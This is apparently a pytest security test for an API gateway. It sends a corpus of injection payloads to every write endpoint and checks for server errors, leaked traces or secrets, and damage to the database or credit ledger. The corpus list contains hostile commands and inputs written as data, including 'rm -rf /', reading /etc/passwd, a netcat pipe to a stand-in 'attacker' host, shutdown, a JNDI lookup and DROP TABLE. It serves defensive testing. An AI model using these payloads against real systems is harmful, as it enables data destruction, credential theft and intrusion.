"""An injection corpus against every write endpoint: SQL, script, shell, path traversal and oversized payloads in
every string field and path parameter, as a user and as the admin. Nothing may answer 5xx, leak a trace, a
path or a secret, or damage the data: afterwards the database still answers and the ledger still balances."""

from __future__ import annotations

import re
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from tests.gateway_server import ADMIN_KEY, GatewayServer

CORPUS = [
    "' OR '1'='1", "'; DROP TABLE users; --", "1; DELETE FROM credit_transactions WHERE 1=1", "\" OR \"\"=\"",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
    "$(rm -rf /)", "`cat /etc/passwd`", "| nc attacker 4444", "; shutdown -h now",
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "C:\\Windows\\system32", "\x00\x01\x02",
    "{{7*7}}", "${jndi:ldap://x/a}", "%s%s%s%n", "A" * 20_000, "😀" * 500, "-1", "1e309", "null",
]
LEAKS = re.compile(r"Traceback|File \"|/work/|site-packages|sqlalchemy\.|asyncpg\.|psycopg|"
                   r"gw_live_\w{20}|gws_\w{20}", re.I)


def _write_routes(gw: GatewayServer) -> list[tuple[str, str, list[str]]]:
    """(method, path, string fields of its JSON body) for every write route, the inference routes included."""
    spec = gw.app.api.openapi()
    schemas = spec.get("components", {}).get("schemas", {})
    out = []
    for path, ops in spec["paths"].items():
        for method, op in ops.items():
            if method.upper() not in ("POST", "PUT", "PATCH", "DELETE"):
                continue
            fields: list[str] = []
            content = op.get("requestBody", {}).get("content", {}).get("application/json", {})
            ref = content.get("schema", {}).get("$ref", "")
            for name, prop in schemas.get(ref.rsplit("/", 1)[-1], {}).get("properties", {}).items():
                fields.append(name)
                del prop
            out.append((method.upper(), path, fields))
    inference = ["model", "prompt", "input", "voice", "code"]
    out += [(m, p, inference) for (m, p) in gw.app._hot]
    out += [("POST", p, inference) for p in ("/v1/embeddings", "/v1/images/generations", "/v1/audio/speech")]
    return out


def _path(path: str, payload: str) -> str:
    segment = quote(payload[:200], safe="") or "x"
    return re.sub(r"\{(\w+)(:path)?\}", lambda _: segment, path)


def _check(r: httpx.Response, where: str, problems: list[str]) -> None:
    if r.status_code >= 500 and r.status_code not in (502, 503, 504):
        problems.append(f"{where}: {r.status_code}")
    text = r.text
    if LEAKS.search(text):
        problems.append(f"{where}: leaks {LEAKS.search(text).group(0)!r}")  # type: ignore[union-attr]
    if r.status_code >= 400 and r.headers.get("content-type", "").startswith("application/json"):
        body = r.json()
        if "error" not in body or "message" not in body["error"]:
            problems.append(f"{where}: not an OpenAI error body")
    if "<script>" in text and not r.headers.get("content-type", "").startswith("application/json"):
        problems.append(f"{where}: reflects markup in a non-JSON answer")


@pytest.mark.timeout(300)
def test_injection_corpus_on_every_write_endpoint(gateway: GatewayServer, user: dict[str, Any]) -> None:
    routes = _write_routes(gateway)
    assert len(routes) > 40
    callers = {"user": {"Authorization": f"Bearer {user['api_key']}"},
               "admin": {"Authorization": f"Bearer {ADMIN_KEY}"}}
    problems: list[str] = []
    with httpx.Client(base_url=gateway.url, timeout=30) as client:
        for method, path, fields in routes:
            for who, headers in callers.items():
                for payload in CORPUS:
                    body: dict[str, Any] = {f: payload for f in fields}
                    body.setdefault("messages", [{"role": "user", "content": payload}])
                    r = client.request(method, _path(path, payload), headers=headers, json=body)
                    _check(r, f"{who} {method} {path} {payload[:20]!r}", problems)
        assert problems == []
        # Nothing was dropped or rewritten: the database answers and the user's ledger still balances.
        users = client.get("/admin/users", headers=callers["admin"])
        assert users.status_code == 200 and users.json()["total"] >= 1
        gateway.drain()
        ledger = client.get("/credits/transactions?limit=1000", headers=callers["user"]).json()
        balance = client.get("/user/balance", headers=callers["user"]).json()
        assert ledger["total"] == len(ledger["data"]) >= 1
        assert sum(row["amount_nanos"] for row in ledger["data"]) == balance["balance_nanos"]
